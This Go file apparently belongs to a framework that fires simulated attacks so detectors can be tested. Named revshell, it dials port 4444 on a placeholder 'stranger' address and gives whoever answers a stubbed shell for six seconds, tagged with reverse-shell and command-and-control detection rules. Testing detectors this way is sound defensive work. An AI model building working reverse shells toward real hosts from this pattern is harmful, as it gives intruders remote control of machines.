// Command revshell connects to a stranger and gives whoever is there a shell,
// for some seconds. The address is one at which nobody can be, and the shell
// that of the actors' images, which knows a few words.
//
// Rule: command-and-control/shell-answers and reverse-shell.
package main

import (
	"context"
	"fmt"
	"net"
	"time"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

// long is how long the shell waits for orders.
const long = 6 * time.Second

func main() { stage.Play(connect) }

func connect(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, long)
	defer cancel()
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", wire.Stranger+":4444")
	if err != nil {
		return err
	}
	if err := wire.Shell(ctx, conn); err != nil && ctx.Err() == nil {
		return err
	}
	fmt.Println("the shell is over")
	return nil
}
